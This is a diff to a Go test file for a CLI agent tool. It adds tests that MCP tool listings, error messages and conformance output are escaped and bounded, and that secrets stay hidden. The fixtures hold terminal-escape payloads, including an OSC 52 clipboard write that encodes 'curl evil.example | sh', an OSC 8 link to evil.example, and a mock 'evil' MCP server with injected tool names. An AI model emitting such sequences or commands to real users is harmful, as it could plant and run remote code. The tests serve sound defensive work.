@@ -4,12 +4,19 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
+
+	"github.com/google/jsonschema-go/jsonschema"
+	mcpsdk "github.com/modelcontextprotocol/go-sdk/mcp"
 
 	"github.com/ptc-go/ptc/agent"
 	"github.com/ptc-go/ptc/lisp"
@@ -35,8 +42,8 @@ func hostileFiles() map[string]string {
 		bin.WriteByte(byte(i))
 	}
 	return map[string]string{
-		"environ": secretEnviron,
-		"binary":  "\x1b]52;c;" + leakedSecret + "\x07" + bin.String(),
+		"environ":   secretEnviron,
+		"binary":    "\x1b]52;c;" + leakedSecret + "\x07" + bin.String(),
 		"huge line": `{"token": "` + leakedSecret + strings.Repeat("x", 4<<20) + `", "cut": [`,
 		"escapes":   "\x1b[2J\x1b]0;" + leakedSecret + "\x07",
 	}
@@ -108,6 +115,12 @@ func TestFileErrorsSayWhere(t *testing.T) {
 	}
 	_, _, errOut = ptcIn(t, testEnv(nil, nil), "mcp", "tools", "--config", env)
 	if want := "ptc mcp tools: " + env + ": 1:1: invalid character 'S' looking for beginning of value\n"; errOut != want {
+		t.Errorf("stderr %q, want %q", errOut, want)
+	}
+	// A form that is not data is quoted to its 40th character.
+	edn := writeFile(t, dir, "ctx.edn", "{:a\n  "+strings.Repeat("s", 40)+leakedSecret+"}")
+	_, _, errOut = ptcIn(t, testEnv(nil, nil), "eval", "-c", edn, "-e", "1")
+	if want := "ptc eval: context " + edn + ":2:3 (byte 6): parse_error: not a data literal: " + strings.Repeat("s", 40) + "…\n"; errOut != want {
 		t.Errorf("stderr %q, want %q", errOut, want)
 	}
 }
@@ -247,8 +260,8 @@ func copyTranscript(t *testing.T, dir string) string {
 // hostileTexts are texts that would command a terminal, or make text
 // read otherwise than it is.
 var hostileTexts = []string{
-	"\x1b[2J\x1b[H",                                          // clear the screen
-	"\x1b]0;pwned\x07",                                       // OSC: the window's title
+	"\x1b[2J\x1b[H",    // clear the screen
+	"\x1b]0;pwned\x07", // OSC: the window's title
 	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", // OSC 8: a link
 	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",         // OSC 52: the clipboard
 	"\u009b31m\u009d0;t\u009c",                               // C1: CSI, OSC, ST
@@ -428,5 +441,105 @@ func TestTerminalEscapesRun(t *testing.T) {
 	check("an agent file error", code, out, errOut)
 	if !strings.Contains(errOut, `language: want default or compact, got "\x1b]52;c;`) {
 		t.Errorf("agent file error: %s", errOut)
+	}
+}
+
+// TestTerminalEscapesMCPTools: ptc mcp tools prints what an MCP server
+// says of its tools (names, descriptions, parameter names) escaped, each
+// on its line, and --json as valid JSON with the same text; how a server
+// is reached is shown without what ${NAME} put in its URL. On main, a
+// tool's name went out with its ESC, NUL, RTL override and newlines.
+func TestTerminalEscapesMCPTools(t *testing.T) {
+	srv := mcpsdk.NewServer(&mcpsdk.Implementation{Name: "evil", Version: "v1"}, nil)
+	names := []string{"plain", "nl\n  tool/evil.fake (x :int) -> :int", "esc\x1b]0;title\x07", "rtl\u202etxt", "nul\x00"}
+	for _, name := range names {
+		schema := &jsonschema.Schema{Type: "object", Properties: map[string]*jsonschema.Schema{
+			"p" + hostileTexts[1]: {Type: "string", Description: hostileText},
+		}}
+		srv.AddTool(&mcpsdk.Tool{Name: name, Description: hostileText + "\nsecond line", InputSchema: schema},
+			func(context.Context, *mcpsdk.CallToolRequest) (*mcpsdk.CallToolResult, error) {
+				return &mcpsdk.CallToolResult{}, nil
+			})
+	}
+	handler := mcpsdk.NewStreamableHTTPHandler(func(*http.Request) *mcpsdk.Server { return srv }, nil)
+	hs := httptest.NewServer(handler)
+	defer hs.Close()
+	cfg := writeFile(t, t.TempDir(), "mcp.json", `{"mcpServers": {"evil": {"url": "`+hs.URL+`/mcp?key=${KEY}"}}}`)
+	env := testEnv(nil, nil)
+	env.getenv = func(k string) string {
+		if k == "KEY" {
+			return "s3cr3t"
+		}
+		return ""
+	}
+
+	code, out, errOut := ptcIn(t, env, "mcp", "tools", "--config", cfg)
+	checkTermSafe(t, "ptc mcp tools stdout", out)
+	checkTermSafe(t, "ptc mcp tools stderr", errOut)
+	if code != exitOK {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	if strings.Contains(out+errOut, "s3cr3t") {
+		t.Errorf("the URL's secret is shown:\n%s", out)
+	}
+	if n := strings.Count(out, "\n  tool/"); n != len(names) {
+		t.Errorf("%d tool lines for %d tools:\n%s", n, len(names), out)
+	}
+	for _, l := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
+		if !strings.HasPrefix(l, "evil (http: "+hs.URL+"/mcp): ") && !strings.HasPrefix(l, "  tool/evil.") && !strings.HasPrefix(l, "      ") {
+			t.Errorf("a line that is not the listing's: %q", l)
+		}
+	}
+	// The names programs call are the mcp package's (safe); the notes give
+	// the server's own.
+	containsAll(t, "stdout", out, "\n      note: MCP name nl\\u000a  tool/evil.fake (x :int) -> :int\n",
+		`note: MCP name esc\u001b]0;title\u0007`, `note: MCP name rtl\u202etxt`, `note: MCP name nul\u0000`,
+		"\n      \\u001b[2J\\u001b[H | ")
+
+	code, out, errOut = ptcIn(t, env, "mcp", "tools", "--config", cfg, "--json")
+	checkTermSafe(t, "ptc mcp tools --json stdout", out)
+	checkTermSafe(t, "ptc mcp tools --json stderr", errOut)
+	var infos []struct{ Tool, Description string }
+	if err := json.Unmarshal([]byte(out), &infos); code != exitOK || err != nil || len(infos) != len(names) {
+		t.Fatalf("--json: exit %d, %v: %s", code, err, out)
+	}
+	for _, info := range infos {
+		// (The mcp package cuts long descriptions.)
+		if !slices.Contains(names, info.Tool) || !strings.HasPrefix(info.Description, strings.Join(hostileTexts[:8], " | ")) {
+			t.Errorf("--json read back: %q, %q", info.Tool, info.Description[max(0, len(info.Description)-60):])
+		}
+	}
+}
+
+// TestFileErrorsBounded: an agent file's value is quoted to its 40th
+// character, and a message, whatever a parser quotes, to 300 characters.
+func TestFileErrorsBounded(t *testing.T) {
+	long := strings.Repeat("x", 100)
+	_, err := parseAgentFile("agent.md", ".", []byte("---\nmax-turns: "+long+"\n---\nP"))
+	if want := `agent.md:2:12: max-turns: want a whole number, 1 or more, got "` + long[:40] + `…"`; err == nil || err.Error() != want {
+		t.Errorf("error %v, want %s", err, want)
+	}
+	af, err := parseAgentFile("agent.md", ".", []byte("---\nsignature: (x :"+strings.Repeat("y", 1000)+") -> :int\n---\nP"))
+	if err == nil {
+		_, err = af.newAgent(af.cfg)
+	}
+	if msg, ok := strings.CutPrefix(fmt.Sprint(err), "agent.md:2:"); !ok || utf8.RuneCountInString(msg) > 300+5 {
+		t.Errorf("error %v: longer than 300 characters", err)
+	}
+	_, err = loadTranscript(writeFile(t, t.TempDir(), "t.json", `{"`+strings.Repeat("k", 1000)+`": 1}`))
+	if err == nil || utf8.RuneCountInString(err.Error()) > 300+200 {
+		t.Errorf("transcript error %d long: %v", len(fmt.Sprint(err)), err)
+	}
+}
+
+// TestTerminalEscapesConform: ptc conform prints a vector's texts escaped.
+func TestTerminalEscapesConform(t *testing.T) {
+	id, _ := json.Marshal("v" + hostileText)
+	vectors := writeFile(t, t.TempDir(), "v.jsonl", `{"id": `+string(id)+`, "program": "(str \"\\u001b]0;t\\u0007\")", "expect": "2"}`+"\n")
+	code, out, errOut := ptc(t, "", "conform", vectors)
+	checkTermSafe(t, "ptc conform stdout", out)
+	checkTermSafe(t, "ptc conform stderr", errOut)
+	if code != exitFail || !strings.Contains(out, `FAIL v\u001b[2J`) {
+		t.Errorf("exit %d, stdout %q", code, out)
 	}
 }
